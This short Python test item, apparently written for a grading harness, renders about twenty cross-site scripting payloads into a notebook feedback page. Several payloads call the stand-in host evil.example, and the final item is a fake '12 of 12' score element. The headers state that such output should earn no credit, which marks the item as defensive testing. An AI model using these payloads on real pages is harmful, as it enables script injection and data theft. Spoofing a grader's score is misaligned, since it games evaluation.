# attack: output with scripts, event handlers, frames and forms, for whoever opens the feedback page
# outcome: earns what the wrong answer earns
# stock: run
from IPython.display import HTML, display

for text in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
             "<iframe src='//evil.example'></iframe>", "<svg onload=alert(1)><script>alert(1)</script></svg>",
             "<scr<script>ipt>alert(1)</scr</script>ipt>", "<form action='//evil.example'><input name=a autofocus onfocus=alert(1)></form>",
             "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href='//evil.example/'>",
             "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=x><link rel=stylesheet href=//evil.example>",
             "<style>@import '//evil.example/x.css'; body{display:none}</style>", "<p style='background:url(//evil.example/x)'>x</p>",
             "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<img src='//evil.example/seen.png'>",
             "</pre></div></body></html><script>alert(1)</script>", "<a href=' jAvAsCrIpT&colon;alert(1)'>x</a>",
             "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<b id=points>12 of 12</b>"):
    display(HTML(text))
